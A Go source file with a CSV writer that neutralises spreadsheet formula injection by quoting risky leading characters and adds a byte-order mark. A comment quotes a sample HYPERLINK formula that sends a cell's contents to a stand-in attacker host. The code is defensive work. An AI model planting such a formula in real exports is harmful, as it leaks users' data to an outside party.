package ui

import (
	"encoding/csv"
	"io"
)

// Every cell an export writes (CSV, XLSX, statistics) passes through
// spreadsheetCell. A cell that begins with = + - @, a tab or a carriage
// return is read as a formula by Excel, LibreOffice and Sheets when the
// file is opened: an officer's title =HYPERLINK("http://evil.example/?x="&A1,"Open")
// became a link that sent the next cell away. OWASP's rule is to begin
// such a cell with a single quote, which spreadsheets show as text.
func spreadsheetCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

// byteOrderMark begins every CSV: without it Excel reads UTF-8 as the
// machine's code page, and Devanagari arrives as mojibake.
const byteOrderMark = "\uFEFF"

// safeCSV writes rows of neutralised cells after a byte-order mark.
type safeCSV struct {
	w    *csv.Writer
	cell []string
}

// newSafeCSV starts a CSV on out with its byte-order mark.
func newSafeCSV(out io.Writer) (*safeCSV, error) {
	if _, err := io.WriteString(out, byteOrderMark); err != nil {
		return nil, err
	}
	return &safeCSV{w: csv.NewWriter(out)}, nil
}

// Write writes one row, each cell neutralised.
func (s *safeCSV) Write(row []string) error {
	s.cell = s.cell[:0]
	for _, v := range row {
		s.cell = append(s.cell, spreadsheetCell(v))
	}
	return s.w.Write(s.cell)
}

// Flush sends what is buffered and returns the first error met.
func (s *safeCSV) Flush() error {
	s.w.Flush()
	return s.w.Error()
}
